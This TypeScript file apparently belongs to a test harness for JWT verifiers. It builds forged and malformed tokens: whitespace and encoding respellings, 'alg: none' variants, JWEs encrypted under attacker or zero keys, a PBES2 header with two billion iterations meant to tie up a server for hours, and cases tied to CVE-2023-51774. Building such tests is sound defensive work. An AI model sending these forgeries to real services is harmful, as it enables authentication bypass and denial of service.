import { CompactEncrypt } from 'jose'
import { encode, type Forgery, genuine, inputOf, type Pair, pair, partsOf, type Victim } from './forging.ts'

/** A genuine token in spellings that a lenient decoder takes: each would be another text for the same token. */
export function respelled(victim: Victim): Forgery[] {
  return victim.trusted.flatMap(key => {
    const token = genuine(victim, key)
    const [header, payload, signature] = partsOf(token)
    const whole: Record<string, string> = {
      ...{
        'a space in front': ` ${token}`,
        'a space behind': `${token} `,
        'a newline behind': `${token}\n`,
        'a tab in front': `\t${token}`,
        'CRLF behind': `${token}\r\n`,
      },
      ...{
        'a NUL behind': `${token}\0`,
        'a NUL in front': `\0${token}`,
        'a mark in front': `\ufeff${token}`,
        'a no-break space behind': `${token}\u00a0`,
      },
      ...{
        'a dot in front': `.${token}`,
        'a dot behind': `${token}.`,
        'two dots': token.replace('.', '..'),
        'a fourth part': `${token}.${signature}`,
      },
      ...{
        'in quotes': `"${token}"`,
        'after Bearer': `Bearer ${token}`,
        'in angle brackets': `<${token}>`,
        twice: `${token}${token}`,
        'twice, with a comma': `${token},${token}`,
      },
      ...{
        'dots percent-encoded': token.replaceAll('.', '%2e'),
        'full-width dots': token.replaceAll('.', '\uff0e'),
        'base64url once more': encode(token),
      },
      ...{ 'upper case': token.toUpperCase(), reversed: [...token].reverse().join(''), 'commas for dots': token.replaceAll('.', ',') },
    }
    const parts: Record<string, (part: string) => string> = {
      padded: part => `${part}=`,
      'padded twice': part => `${part}==`,
      'with a space within': part => `${part.slice(0, 5)} ${part.slice(5)}`,
      'with a newline within': part => `${part.slice(0, 5)}\n${part.slice(5)}`,
      'with a percent escape': part => `${part.slice(0, 5)}%41${part.slice(6)}`,
      'with an asterisk': part => `${part.slice(0, 5)}*${part.slice(5)}`,
      'with a letter beyond ASCII': part => `${part.slice(0, 5)}\u00e4${part.slice(5)}`,
      'with a NUL within': part => `${part.slice(0, 5)}\0${part.slice(5)}`,
      'with a letter too many': part => `${part}${'A'.repeat(part.length % 4 === 0 ? 1 : 5 - (part.length % 4))}`,
      'with other bits behind its end': otherBits,
    }
    const ofPart = Object.entries(parts).flatMap(
      ([name, change]): Array<[string, string]> => [
        [`header ${name}`, `${change(header)}.${payload}.${signature}`],
        [`payload ${name}`, `${header}.${change(payload)}.${signature}`],
        [`signature ${name}`, `${header}.${payload}.${change(signature)}`],
      ],
    )
    const all = [...Object.entries(whole), ...ofPart, ...inStandardAlphabet(victim, key)]
    return all.filter(([, text]) => text !== token).map(([name, text]) => ({ name: `${key.alg}: ${name}`, token: text }))
  })
}

// The last letter of a part whose length is no multiple of four has bits that no byte uses.
function otherBits(part: string): string {
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'
  return part.length % 4 === 0 ? part : part.slice(0, -1) + alphabet[alphabet.indexOf(part.slice(-1)) + 1]
}

function inStandardAlphabet(victim: Victim, key: Pair): Array<[string, string]> {
  // Until both letters occur in which the alphabets differ.
  for (let tries = 0; tries < 1000; tries++) {
    const token = genuine(victim, key)
    const signature = partsOf(token)[2]
    if (!signature.includes('-') || !signature.includes('_')) continue
    return [
      ['signature in the standard alphabet', token.slice(0, -signature.length) + signature.replaceAll('-', '+').replaceAll('_', '/')],
      ['signature in both alphabets', token.slice(0, -signature.length) + signature.replaceAll('-', '+')],
    ]
  }
  throw new Error('a thousand signatures without - and _')
}

/** What is no signed JWT in the compact form at all. */
export function otherForms(victim: Victim): Forgery[] {
  const token = genuine(victim)
  const [header, payload, signature] = partsOf(token)
  const protectedHeader = JSON.parse(Buffer.from(header, 'base64url').toString()) as object
  const json: Record<string, unknown> = {
    'flattened JSON': { protected: header, payload, signature },
    'flattened JSON with an unprotected header': { header: protectedHeader, payload, signature },
    'general JSON': { payload, signatures: [{ protected: header, signature }] },
    'general JSON with two signatures': {
      payload,
      signatures: [
        { protected: header, signature },
        { protected: encode({ alg: 'none' }), signature: '' },
      ],
    },
    'JSON with the token in a member': { token, jwt: token, access_token: token },
    'a list of tokens': [token, token],
  }
  const texts = [
    '.',
    '..',
    '...',
    '....',
    'a',
    'a.b',
    'a.b.c',
    'a.b.c.d.e',
    'null',
    'undefined',
    '{}',
    '[]',
    'true',
    '0',
    '*',
    '\0',
    '\u{1f511}',
    'e30.e30.e30',
    'e30.e30.',
    'eyJ.eyJ.eyJ',
  ]
  return [
    ...Object.entries(json).map(([name, value]) => ({ name, token: JSON.stringify(value) })),
    ...Object.entries(json).map(([name, value]) => ({ name: `${name}, in base64url`, token: encode(value) })),
    ...texts.map(text => ({ name: `the text ${JSON.stringify(text)}`, token: text })),
    { name: 'an SD-JWT', token: `${token}~WyJzYWx0IiwibmFtZSIsInZhbHVlIl0~` },
    {
      name: 'a SAML assertion',
      token: Buffer.from('<saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"/>').toString('base64url'),
    },
    { name: 'a PASETO', token: `v4.public.${signature}` },
    { name: 'header and payload only', token: `${header}.${payload}` },
    { name: 'the header only', token: header },
    { name: 'the signature only', token: signature },
  ]
}

/** Encrypted tokens: anybody can encrypt, and five parts must not be taken for three (CVE-2023-51774). */
export async function encrypted(victim: Victim): Promise<Forgery[]> {
  const claims = victim.claims()
  const inner = { unsigned: `${inputOf({ alg: 'none' }, claims)}.`, genuine: genuine(victim), claims: JSON.stringify(claims) }
  const rsa = victim.trusted.find(({ alg }) => alg === 'RS256') ?? pair('RS256', 'attacker')
  const ec = victim.trusted.find(({ alg }) => alg === 'ES256') ?? pair('ES256', 'attacker')
  const attempts = Object.entries(inner).flatMap(([name, content]) => [
    encrypt(`RSA-OAEP-256 around ${name}`, content, { alg: 'RSA-OAEP-256', kid: rsa.kid }, rsa),
    encrypt(`ECDH-ES around ${name}`, content, { alg: 'ECDH-ES', kid: ec.kid }, ec),
    encrypt(`ECDH-ES with cty around ${name}`, content, { alg: 'ECDH-ES', kid: ec.kid, cty: 'JWT' }, ec),
    encrypt(`dir with zeros around ${name}`, content, { alg: 'dir', kid: ec.kid }, new Uint8Array(32)),
    encrypt(`A256KW with zeros around ${name}`, content, { alg: 'A256KW' }, new Uint8Array(32)),
    encrypt(`PBES2 with an empty password around ${name}`, content, { alg: 'PBES2-HS256+A128KW', kid: ec.kid }, new Uint8Array(1)),
  ])
  return [...(await Promise.all(attempts)), ...malformedJwes(victim)]
}

async function encrypt(
  name: string,
  content: string,
  header: { alg: string; kid?: string; cty?: string },
  to: Pair | Uint8Array,
): Promise<Forgery> {
  const key = to instanceof Uint8Array ? to : to.publicKey
  return { name, token: await new CompactEncrypt(Buffer.from(content)).setProtectedHeader({ ...header, enc: 'A256GCM' }).encrypt(key) }
}

function malformedJwes(victim: Victim): Forgery[] {
  const token = genuine(victim)
  const [header, payload, signature] = partsOf(token)
  const jwe = (members: object) =>
    `${encode({ enc: 'A256GCM', ...members })}.${encode(Buffer.alloc(40))}.${encode(Buffer.alloc(12))}.${encode(Buffer.alloc(64))}.${encode(Buffer.alloc(16))}`
  return [
    // A password hash of two thousand million rounds would keep the server busy for an hour (RFC 8725bis).
    {
      name: 'PBES2 with p2c of two thousand million',
      token: jwe({ alg: 'PBES2-HS512+A256KW', p2c: 2_000_000_000, p2s: encode(Buffer.alloc(16)) }),
    },
    { name: 'a compressed JWE', token: jwe({ alg: 'dir', zip: 'DEF' }) },
    { name: 'RSA1_5', token: jwe({ alg: 'RSA1_5' }) },
    { name: 'a JWE without alg', token: jwe({}) },
    { name: 'a JWE with alg none', token: jwe({ alg: 'none' }) },
    { name: 'a JWS with two parts behind', token: `${token}.AA.AA` },
    { name: 'a JWS with two empty parts behind', token: `${token}..` },
    { name: 'a JWS with empty parts between', token: `${header}..${payload}..${signature}` },
    { name: 'the header of a JWE on a JWS', token: `${encode({ alg: 'dir', enc: 'A256GCM' })}.${payload}.${signature}` },
    {
      name: 'a JWS header with enc',
      token: `${encode({ alg: victim.trusted[0]?.alg, enc: 'A256GCM', kid: victim.trusted[0]?.kid })}.${payload}.${signature}`,
    },
    { name: 'five parts with the header of a JWS', token: `${header}.${payload}.${signature}.${payload}.${signature}` },
    { name: 'six parts', token: `${jwe({ alg: 'dir' })}.AA` },
  ]
}
